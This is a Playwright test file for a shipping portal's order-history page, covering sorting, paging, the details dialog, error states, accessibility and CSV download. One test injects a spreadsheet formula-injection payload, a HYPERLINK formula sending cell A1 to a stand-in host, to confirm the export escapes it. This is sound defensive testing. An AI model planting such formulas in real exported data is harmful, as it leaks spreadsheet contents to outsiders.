import { readFile } from 'node:fs/promises';
import type { HistoryParcel } from '../../../shared/contracts/parcel-history.ts';
import { fillAddressStep, passAccountStep } from '../profile/profile-form.ts';
import { expectAccessible, expectNoSidewaysScroll } from '../support/checks.ts';
import { expect, signIn, test } from '../support/fixtures.ts';
import { createFreshCustomer } from '../support/fresh-customer.ts';
import {
  COLUMNS,
  dialog,
  HISTORY,
  nextPage,
  openHistory,
  previousPage,
  range,
  reverseSort,
  rowsPerPage,
  sortBy,
  titles,
} from './order-history.ts';

/** A number that a spreadsheet would change is text in the file. */
const inCsv = (number: string) => (/^\d{12,}$|^0\d+$/.test(number) ? `"=""${number}"""` : number);

/** Has hundreds of past packages. */
const BUSY = 'busy@northbound.test';

test.describe('a customer with hundreds of past packages', () => {
  test.beforeEach(({ useSessionOf }) => useSessionOf(BUSY));

  test('sees the latest deliveries first and can sort by any column', async ({ page }) => {
    const whole = await openHistory(page);
    expect(whole.length).toBeGreaterThan(400);
    await expect(page).toHaveTitle('Historical Packages · Northbound');
    await expect(titles(page)).toHaveText(whole.slice(0, 25).map(({ freightBillNum }) => freightBillNum));
    await expect(page.getByRole('link', { name: 'Packages', exact: true })).toHaveAttribute(
      'aria-current',
      'true',
    );

    for (const [index, [column, [sortValue, shown]]] of Object.entries(COLUMNS).entries()) {
      const ascending = whole.toSorted((one, other) => (sortValue(one) < sortValue(other) ? -1 : 1));
      const cells = page.locator(`tbody tr > :nth-child(${index + 1})`);
      await sortBy(page, column);
      await expect(cells).toHaveText(ascending.slice(0, 25).map(shown));
      await reverseSort(page, column);
      await expect(cells).toHaveText(ascending.toReversed().slice(0, 25).map(shown));
    }
    await page.getByRole('link', { name: 'Active Packages' }).click();
    await expect(page).toHaveURL('/orders');
  });

  test('turns pages, and a new size or sort returns to the first page', { tag: '@screen' }, async ({
    page,
  }) => {
    const whole = await openHistory(page);
    const numbers = whole.map(({ freightBillNum }) => freightBillNum);
    await expect(range(page)).toHaveText('Rows 1–25 of 25+');
    await nextPage(page).click();
    await nextPage(page).click();
    await expect(range(page)).toHaveText('Rows 51–75 of 75+');
    await expect(titles(page)).toHaveText(numbers.slice(50, 75));
    await expect(titles(page).first()).toBeInViewport();
    await previousPage(page).click();
    await expect(titles(page)).toHaveText(numbers.slice(25, 50));

    for (const size of [5, 10, 50, 100]) {
      await rowsPerPage(page).selectOption(String(size));
      await expect(range(page)).toHaveText(`Rows 1–${size} of ${size}+`);
      await expect(titles(page)).toHaveText(numbers.slice(0, size));
    }
    await nextPage(page).click();
    await expect(range(page)).toHaveText('Rows 101–200 of 200+');
    await sortBy(page, 'Order #');
    await expect(range(page)).toHaveText('Rows 1–100 of 100+');
    for (let turn = 1; turn < Math.ceil(numbers.length / 100); turn += 1) {
      await expect(range(page)).toHaveText(new RegExp(`–${turn}00 of`));
      await nextPage(page).press('Enter');
    }
    await expect(range(page)).toHaveText(`Rows 401–${numbers.length} of ${numbers.length}`);
    await expect(nextPage(page)).toHaveAttribute('aria-disabled', 'true');
    await expect(nextPage(page)).toBeFocused();
  });

  test('keeps the sort and size after a reload and Back', async ({ page }) => {
    await openHistory(page);
    await sortBy(page, 'Price');
    await reverseSort(page, 'Price');
    await rowsPerPage(page).selectOption('10');
    await expect(page).toHaveURL('/order-history?sort=price&direction=descending&size=10');
    await expect(range(page)).toHaveText('Rows 1–10 of 10+');
    const mostExpensive = await titles(page).allTextContents();
    await page.reload();
    await expect(titles(page)).toHaveText(mostExpensive);
    await page.getByRole('link', { name: 'Active Packages' }).click();
    await expect(page).toHaveURL('/orders');
    await page.goBack();
    await expect(titles(page)).toHaveText(mostExpensive);
    await expect(rowsPerPage(page)).toHaveValue('10');
  });

  test('keeps the page after a reload, Back and the details', async ({ page }) => {
    const whole = await openHistory(page, '?size=5');
    const third = whole.slice(10, 15).map(({ freightBillNum }) => freightBillNum);
    await nextPage(page).click();
    await nextPage(page).click();
    await expect(titles(page)).toHaveText(third);
    await page.reload();
    await expect(titles(page)).toHaveText(third);
    await expect(range(page)).toHaveText('Rows 11–15 of 15+');
    await page.getByRole('link', { name: 'Active Packages' }).click();
    await expect(page).toHaveURL('/orders');
    await page.goBack();
    await expect(titles(page)).toHaveText(third);
    await page.getByRole('button', { name: third[0] }).click();
    await expect(dialog(page).getByText('Status history')).toBeVisible();
    await page.reload();
    await expect(dialog(page).getByText('Status history')).toBeVisible();
    await page.keyboard.press('Escape');
    await expect(dialog(page)).toBeHidden();
    await expect(titles(page)).toHaveText(third);
    await previousPage(page).click();
    await expect(range(page)).toHaveText('Rows 6–10 of 10+');
    await rowsPerPage(page).selectOption('10');
    await page.reload();
    await expect(range(page)).toHaveText('Rows 1–10 of 10+');
  });

  test('opens the details with a press on a row; Back and Escape close them', async ({ page }) => {
    const [first, second] = await openHistory(page, '?size=5');
    await page.getByRole('row').nth(2).getByRole('cell').nth(1).click();
    await expect(dialog(page).getByRole('heading', { level: 2 })).toHaveText(
      `Freight bill ${second?.freightBillNum}`,
    );
    await expect(dialog(page).getByText('Status history')).toBeVisible();
    await expect(page).toHaveURL(`/order-history?size=5&parcel=${second?.parcelId}`);
    await page.goBack();
    await expect(dialog(page)).toBeHidden();
    await expect(page).toHaveURL('/order-history?size=5');
    const control = page.getByRole('button', { name: first?.freightBillNum });
    await control.press('Enter');
    await expect(dialog(page).getByText('Status history')).toBeVisible();
    await page.keyboard.press('Escape');
    await expect(dialog(page)).toBeHidden();
    await expect(control).toBeFocused();
    await expect(page).toHaveURL('/order-history?size=5');
  });

  test('opens the details from a link and sees an explanation for an unknown package', {
    tag: '@screen',
  }, async ({ page }) => {
    const [parcel] = await openHistory(page, '?size=5');
    await page.goto(`/order-history?size=5&parcel=${parcel?.parcelId}`);
    await expect(dialog(page).getByText('Status history')).toBeVisible();
    await dialog(page).getByRole('button', { name: 'Close' }).click();
    await expect(page).toHaveURL('/order-history?size=5');

    await page.goto('/order-history?size=5&parcel=nothing');
    await expect(dialog(page)).toContainText('This package was not found.');
    await expectAccessible(page);
    await dialog(page).getByRole('button', { name: 'Close' }).first().click();
    await expect(dialog(page)).toBeHidden();
  });

  test('can retry details that failed to load', async ({ page }) => {
    const [parcel] = await openHistory(page, '?size=5');
    const one = `**/api/parcels/${parcel?.parcelId}`;
    await page.route(one, (route) =>
      route.fulfill({ status: 403, json: { status: 403, error: 'Forbidden' } }),
    );
    await page.getByRole('button', { name: parcel?.freightBillNum }).click();
    await expect(dialog(page).getByRole('alert')).toContainText('This package could not be loaded.');
    await page.unroute(one);
    await dialog(page).getByRole('button', { name: 'Try again' }).click();
    await expect(dialog(page).getByText('Status history')).toBeVisible();
  });

  test('sees a skeleton, then an error, then the packages, all accessible', {
    tag: '@screen',
  }, async ({ page }) => {
    let respond: (response: object) => void = () => {};
    const response = new Promise<object>((resolve) => {
      respond = resolve;
    });
    await page.route(HISTORY, async (route) => route.fulfill(await response));
    await page.goto('/order-history?size=10');
    await expect(page.getByRole('status').filter({ hasText: 'Loading' })).toBeAttached();
    await expect(page.getByRole('button', { name: 'Download CSV' })).toBeDisabled();
    await expectNoSidewaysScroll(page);
    respond({ status: 403, json: { status: 403, error: 'Forbidden' } });
    await expect(page.getByRole('alert')).toContainText('Your past packages could not be loaded.');
    await expect(page.getByRole('alert')).toContainText('You do not have permission to do this.');
    await page.unroute(HISTORY);
    await page.getByRole('button', { name: 'Try again' }).click();
    await expect(titles(page)).toHaveCount(10);
    await expectNoSidewaysScroll(page);
    await expectAccessible(page);
  });

  test('keeps seeing the current page while the next one loads', async ({ page }) => {
    const whole = await openHistory(page);
    let release = () => {};
    const released = new Promise<void>((resolve) => {
      release = resolve;
    });
    await page.route(HISTORY, async (route) => {
      await released;
      await route.continue();
    });
    await nextPage(page).click();
    await expect(page.getByRole('table')).toHaveAttribute('aria-busy', 'true');
    await expect(titles(page).first()).toHaveText(whole[0]?.freightBillNum ?? '');
    release();
    await expect(titles(page).first()).toHaveText(whole[25]?.freightBillNum ?? '');
    await expect(page.getByRole('table')).toHaveAttribute('aria-busy', 'false');
  });

  test('downloads the whole history without formulas', async ({ page }) => {
    const whole = await openHistory(page, '?sort=price&direction=descending&size=5');
    await page.route(HISTORY, async (route) => {
      const response = await route.fetch();
      const [first, ...rest]: HistoryParcel[] = await response.json();
      const shippingTrackingNum = '=HYPERLINK("https://x.example?"&A1)';
      await route.fulfill({ response, json: [{ ...first, shippingTrackingNum }, ...rest] });
    });
    const [download] = await Promise.all([
      page.waitForEvent('download'),
      page.getByRole('button', { name: 'Download CSV' }).click(),
    ]);
    expect(download.suggestedFilename()).toMatch(/^northbound-packages-\d{4}-\d\d-\d\d\.csv$/);
    const text = await readFile(await download.path(), 'utf8');
    const [head, first, second, ...rest] = text.trimEnd().split('\r\n');
    expect(head).toBe('\ufeffOrder #,Origin,Destination,Delivered Date,Weight (lbs),Price,Tracking #');
    expect(first).toMatch(/,"'=HYPERLINK\(""https:\/\/x\.example\?""&A1\)"$/);
    const next = whole.toSorted((one, other) => (other.price ?? 0) - (one.price ?? 0))[1];
    const shown = (column: string) => (next ? COLUMNS[column]?.[1](next) : '');
    expect(second).toBe(
      [
        next?.freightBillNum,
        shown('Origin'),
        shown('Destination'),
        shown('Delivered Date')?.replace(/ AK[SD]T$/, ''),
        next?.weightLbs,
        next?.price,
        inCsv(next?.shippingTrackingNum ?? ''),
      ].join(','),
    );
    expect(rest).toHaveLength(whole.length - 2);
    await expect(page.getByText(`${whole.length} packages downloaded.`)).toBeVisible();
  });

  test('sees a toast when a download fails, and gets no file', async ({ page }) => {
    await openHistory(page, '?size=5');
    const downloads: unknown[] = [];
    page.on('download', (download) => downloads.push(download));
    await page.route(HISTORY, (route) =>
      route.fulfill({ status: 403, json: { status: 403, error: 'Forbidden' } }),
    );
    await page.getByRole('button', { name: 'Download CSV' }).click();
    await expect(
      page.getByText('Nothing was downloaded. You do not have permission to do this.'),
    ).toBeVisible();
    await expect(page.getByRole('button', { name: 'Download CSV' })).toBeEnabled();
    expect(downloads).toEqual([]);
  });
});

test('explains to a customer without packages what will appear', { tag: '@screen' }, async ({
  page,
  portal,
}) => {
  await signIn(page, await createFreshCustomer(portal));
  await passAccountStep(page);
  await fillAddressStep(page);
  await page.getByRole('button', { name: 'Submit' }).click();
  await page.getByRole('button', { name: 'Agree to Terms and Conditions' }).click();
  await expect(page).toHaveURL('/orders');
  await page.goto('/order-history');

  await expect(page.getByText('No historical packages found.')).toBeVisible();
  await expect(page.getByRole('table')).toHaveCount(0);
  await expectAccessible(page);
  await expectNoSidewaysScroll(page);
});
